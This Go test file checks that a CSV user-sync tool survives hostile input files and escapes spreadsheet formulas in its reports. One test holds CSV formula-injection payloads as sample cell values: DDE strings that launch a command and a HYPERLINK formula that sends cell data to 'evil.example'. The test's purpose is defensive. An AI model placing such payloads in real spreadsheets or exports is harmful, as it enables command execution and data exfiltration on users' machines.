package main

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"usersync/csvfile"
	"usersync/sync"
	"usersync/sync/coursedog"
)

// groupTitle matches validate's "Errors (…):" and "Warnings (…):" lines
// and the titles of each rule's group below them ("  on more than one
// row (5):").
var groupTitle = regexp.MustCompile(`^((Errors|Warnings) \(.*\)|  [^ ].* \([0-9,]+\)):$`)

// TestHostileFiles runs every file of testdata/hostile (files operators
// really bring; testdata/hostile/generate.go made them) through `usersync
// validate` in-process and asserts its exit status and every line it
// prints; then through the library as the guided import uses it (Open,
// Validate, an edit and its undo, every suggested fix and their undo, Save
// to a copy and a re-read of what was saved). Nothing recovers a panic: one
// fails the test.
func TestHostileFiles(t *testing.T) {
	entries, err := os.ReadDir("testdata/hostile")
	if err != nil {
		t.Fatal(err)
	}
	tested := map[string]bool{}
	for _, c := range hostileCases {
		tested[c.file] = true
	}
	var files []string
	for _, e := range entries {
		// A FILE.mapping belongs to FILE's case: validate reads it.
		if name := e.Name(); name != "generate.go" && !strings.HasPrefix(name, ".") && !strings.HasSuffix(name, ".mapping") {
			files = append(files, name)
			if !tested[name] {
				t.Errorf("testdata/hostile/%s has no case", name)
			}
		}
	}
	if len(files) < 40 {
		t.Errorf("%d files in the corpus, want at least 40", len(files))
	}
	for _, c := range hostileCases {
		name := c.file
		if len(c.args) > 0 {
			name += " " + strings.Join(c.args, " ")
		}
		if c.known {
			name += " (roles and departments known)"
		}
		t.Run(name, func(t *testing.T) {
			path := "testdata/hostile/" + c.file
			if _, err := os.Stat(path); err != nil {
				t.Fatal(err)
			}
			opts := hostileOptions(t, c.args)
			var code int
			var stderr string
			if c.known {
				code, stderr = validateKnown(t, path, opts)
			} else {
				var stdout string
				code, stdout, stderr = runOffline(t, append([]string{"validate", path}, c.args...)...)
				if stdout != "" {
					t.Errorf("stdout %q", stdout)
				}
			}
			var got []string
			for _, line := range strings.Split(stderr, "\n") {
				if line != "" && !groupTitle.MatchString(line) {
					got = append(got, line)
				}
			}
			want := make([]string, len(c.out))
			for i, line := range c.out {
				want[i] = strings.ReplaceAll(line, "$F", path)
			}
			if code != c.code || !slices.Equal(got, want) {
				t.Errorf("exit %d, want %d; lines\n%s\nwant\n%s", code, c.code, strings.Join(got, "\n"), strings.Join(want, "\n"))
			}
			exerciseFile(t, path, opts, code == exitUsage)
		})
	}
}

// hostileOptions turns validate's --delimiter and --map into csvfile.Options.
func hostileOptions(t *testing.T, args []string) csvfile.Options {
	var opts csvfile.Options
	for i := 0; i+1 < len(args); i += 2 {
		switch args[i] {
		case "--delimiter":
			d, err := parseDelimiter(args[i+1])
			if err != nil {
				t.Fatal(err)
			}
			opts.Delimiter = d
		case "--map":
			from, to, err := csvfile.ParseMapping(args[i+1])
			if err != nil {
				t.Fatal(err)
			}
			if opts.Mapping == nil {
				opts.Mapping = map[string]string{}
			}
			opts.Mapping[from] = to
		default:
			t.Fatalf("argument %s", args[i])
		}
	}
	return opts
}

// validateKnown validates with the roles and departments known and prints
// the result as validate does.
func validateKnown(t *testing.T, path string, opts csvfile.Options) (int, string) {
	t.Helper()
	var out, errOut bytes.Buffer
	env := &cmdEnv{stdin: strings.NewReader(""), stdout: &out, stderr: &errOut, getenv: func(string) string { return "" }}
	code := validateFile(env, "coursedog", path, coursedog.NewSchema(hostileRoles, hostileDepartments), opts, false, false)
	if out.Len() > 0 {
		t.Errorf("stdout %q", out.String())
	}
	return code, errOut.String()
}

// exerciseFile puts a copy of the file through what the guided import does
// with it, with the roles and departments known.
func exerciseFile(t *testing.T, path string, opts csvfile.Options, unreadable bool) {
	t.Helper()
	orig, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	work := filepath.Join(t.TempDir(), filepath.Base(path))
	if err := os.WriteFile(work, orig, 0o644); err != nil {
		t.Fatal(err)
	}
	schema := coursedog.NewSchema(hostileRoles, hostileDepartments)
	f, err := openUserFile("coursedog", work, schema, opts)
	if err != nil {
		var fe *csvfile.FileError
		if !errors.As(err, &fe) || fe.Path != work || !strings.HasPrefix(err.Error(), work+":") {
			t.Fatalf("open: %T %v, want a *csvfile.FileError naming %s", err, err, work)
		}
		if !unreadable {
			t.Fatalf("open: %v, but validate read the file", err)
		}
		return
	}
	if unreadable {
		t.Fatal("open read the file validate could not")
	}
	v := csvfile.Validate(f)
	checkCounts(t, f, v)
	before := v.Messages()

	// An edit that gives the first row the last row's email, and its undo.
	ed := csvfile.NewEditor(f, v)
	last := f.Len() - 1
	if err := ed.Set(0, "email", f.Value(last, "email")+" "); err != nil {
		t.Fatal(err)
	}
	checkCounts(t, f, v)
	if !ed.Undo() || !reflect.DeepEqual(v.Messages(), before) || ed.Dirty() {
		t.Fatalf("after undoing an edit (dirty %v)\n%+v\nwant\n%+v", ed.Dirty(), v.Messages(), before)
	}

	// Every suggested fix, then undo them all: back where it started.
	for _, i := range v.Problems() {
		for _, m := range slices.Clone(v.Row(i)) {
			if m.Fix != nil {
				if err := ed.ApplyFix(i, *m.Fix); err != nil {
					t.Fatalf("line %d: fix %+v: %v", f.Line(i), m.Fix, err)
				}
			}
		}
	}
	checkCounts(t, f, v)
	for ed.Undo() {
	}
	if got := v.Messages(); !reflect.DeepEqual(got, before) || ed.Dirty() {
		t.Fatalf("after undoing the fixes (dirty %v)\n%+v\nwant\n%+v", ed.Dirty(), got, before)
	}

	// An edit, saved to the copy; what is read back is what was saved.
	if err := ed.Set(last, "lastName", "Ñúñez-Edited"); err != nil {
		t.Fatal(err)
	}
	bak, err := ed.Save()
	if err != nil {
		t.Fatalf("save: %v", err)
	}
	if data, err := os.ReadFile(bak); err != nil || !bytes.Equal(data, orig) {
		t.Errorf("backup %s: %v, not the original", bak, err)
	}
	readOpts := opts
	readOpts.Delimiter = f.Delimiter()
	again, err := openUserFile("coursedog", work, schema, readOpts)
	if err != nil {
		t.Fatalf("re-read after save: %v", err)
	}
	if again.Len() != f.Len() || !slices.Equal(again.Header(), f.Header()) || again.Value(last, "lastName") != "Ñúñez-Edited" {
		t.Fatalf("re-read %d rows %q (last name %q), saved %d rows %q",
			again.Len(), again.Header(), again.Value(last, "lastName"), f.Len(), f.Header())
	}
	for i := range f.Len() {
		want := f.Cells(i)
		for len(want) < len(f.Header()) {
			want = append(want, "")
		}
		if got := again.Cells(i); !slices.Equal(got, want) || again.Line(i) != f.Line(i) {
			t.Fatalf("row %d re-read %q on line %d, saved %q on line %d", i, got, again.Line(i), want, f.Line(i))
		}
	}
	if got, want := csvfile.Validate(again).Messages(), v.Messages(); !reflect.DeepEqual(got, want) {
		t.Errorf("re-read after save\n%+v\nthe editor's\n%+v", got, want)
	}
}

// checkCounts asserts that the counts and the messages agree and that
// every row message is on its row's line.
func checkCounts(t *testing.T, f *csvfile.File, v *csvfile.Validation) {
	t.Helper()
	errs, warns, bad := 0, len(f.Warnings()), 0
	for i := range f.Len() {
		rowBad := false
		for _, m := range v.Row(i) {
			if m.Line != f.Line(i) || m.Text == "" {
				t.Fatalf("row %d (line %d): message %+v", i, f.Line(i), m)
			}
			if m.Severity == csvfile.Error {
				errs++
				rowBad = true
			} else {
				warns++
			}
		}
		if rowBad {
			bad++
		}
	}
	if errs != v.Errors() || warns != v.Warnings() || bad != v.RowsWithErrors() || len(v.Messages()) != errs+warns {
		t.Fatalf("counted %d errors, %d warnings, %d bad rows; validation says %d, %d, %d and %d messages",
			errs, warns, bad, v.Errors(), v.Warnings(), v.RowsWithErrors(), len(v.Messages()))
	}
}

// TestHostileFormulasReachTheReportEscaped: cells of formulas_in_cells.csv
// that a spreadsheet would run are read as data, saved back as they were
// (the operator's own file), and escaped in the report.
func TestHostileFormulasReachTheReportEscaped(t *testing.T) {
	f, err := csvfile.Open("testdata/hostile/formulas_in_cells.csv", coursedog.NewSchema(nil, nil), csvfile.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		row       int
		key, want string
	}{
		{0, "firstName", "=cmd|' /C calc'!A0"},
		{0, "externalId", "@SUM(1+1)*cmd|' /C calc'!A0"},
		{1, "lastName", "-Turing"},
		{1, "email", "-alan@example.edu"},
		{1, "externalId", `=HYPERLINK("http://evil.example/?"&A1,"open")`},
		{2, "email", "+grace@example.edu"},
	} {
		if got := f.Value(c.row, c.key); got != c.want {
			t.Errorf("row %d %s = %q, want %q", c.row, c.key, got, c.want)
		}
		if got := csvfile.EscapeFormula(c.want); got != "'"+c.want {
			t.Errorf("EscapeFormula(%q) = %q", c.want, got)
		}
	}
	v := csvfile.Validate(f)
	p, err := sync.NewPlan("coursedog", f, v, nil, sync.PlanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	run := &sync.Run{}
	for _, r := range p.Rows {
		run.Outcomes = append(run.Outcomes, sync.Outcome{Row: r.Row, Line: r.Line, Email: r.Email, Action: r.Action,
			Result: sync.Created, Message: "created " + r.Email})
	}
	report := filepath.Join(t.TempDir(), "report.csv")
	if err := sync.WriteReport(report, p, run); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(report)
	if err != nil {
		t.Fatal(err)
	}
	cells, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	emails := []string{}
	for _, row := range cells[1:] {
		emails = append(emails, row[1])
	}
	if want := []string{"ada.lovelace@example.edu", "'-alan@example.edu", "'+grace@example.edu"}; !slices.Equal(emails, want) {
		t.Errorf("report emails %q, want %q", emails, want)
	}
}

// TestHostileBigFile validates a generated file through `usersync validate`
// and checks every line it prints: a few planted problems (an email again
// in the last row, naming line 2; a near-miss product; a cell over two
// lines in the middle, which moves every later line by one) among clean
// rows. The file is written to a temporary folder, never committed. By
// default it is 20 MB (seconds under -race on 2 cores); USERSYNC_BIG=1
// makes it 200 MB (about a minute under -race, see SECURITY.md §6).
func TestHostileBigFile(t *testing.T) {
	size := 20 << 20
	if os.Getenv("USERSYNC_BIG") == "1" {
		size = 200 << 20
	}
	path := filepath.Join(t.TempDir(), "big.csv")
	fh, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := bufio.NewWriterSize(fh, 1<<20)
	written, line := 0, 1
	put := func(b []byte) {
		w.Write(b)
		written += len(b)
		line += bytes.Count(b, []byte("\n"))
	}
	put([]byte("First Name,Last Name,Email,Products,Unique ID,Department,Secondary Departments,Role IDs,Notes\n"))
	var rows, nearMissLine, lastLine int
	multiline := false
	var b []byte
	for i := 0; written < size; i++ {
		id := strconv.AppendInt(nil, int64(i), 10)
		email := "user" + string(id) + "@example.edu"
		products, notes := `"scheduling, events"`, ""
		switch {
		case i == 0:
			email = "twin@example.edu"
		case !multiline && written >= size/2:
			notes, multiline = "\"first line\nsecond line\"", true
		case nearMissLine == 0 && written >= size*3/4:
			products, nearMissLine = "schedulng", line
		}
		if written+100 >= size {
			email, lastLine = "TWIN@Example.edu", line
		}
		b = append(b[:0], "First"...)
		b = append(append(b, id...), ",Last"...)
		b = append(append(b, id...), ',')
		b = append(append(b, email...), ',')
		b = append(append(b, products...), ",U"...)
		b = append(append(b, id...), ",Mathematics,,,"...)
		b = append(append(b, notes...), '\n')
		put(b)
		rows++
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := fh.Close(); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	code, stdout, stderr := runOffline(t, "validate", path)
	t.Logf("validate of %d MB, %d rows: %v", written>>20, rows, time.Since(start).Round(time.Millisecond))
	var got []string
	for _, l := range strings.Split(stderr, "\n") {
		if l != "" && !groupTitle.MatchString(l) {
			got = append(got, l)
		}
	}
	want := []string{
		fmt.Sprintf("%s: %d rows for coursedog (UTF-8, comma-delimited)", path, rows),
		fmt.Sprintf("%s:2: Email: this email is also on line %d", path, lastLine),
		fmt.Sprintf("%s:%d: Email: this email is also on line 2", path, lastLine),
		fmt.Sprintf(`%s:%d: Products: "schedulng" is not a product key; did you mean "scheduling"?`, path, nearMissLine),
		`    fix: use "scheduling"`,
		fmt.Sprintf(`%s:1: Notes: "Notes" is not a coursedog column; it is kept but not imported`, path),
		fmt.Sprintf("%s: %d rows valid, 3 rows with errors; 3 errors, 1 warning", path, rows-3),
	}
	if code != exitRowsFailed || stdout != "" || !slices.Equal(got, want) {
		t.Errorf("exit %d, stdout %q, lines\n%s\nwant\n%s", code, stdout, strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}
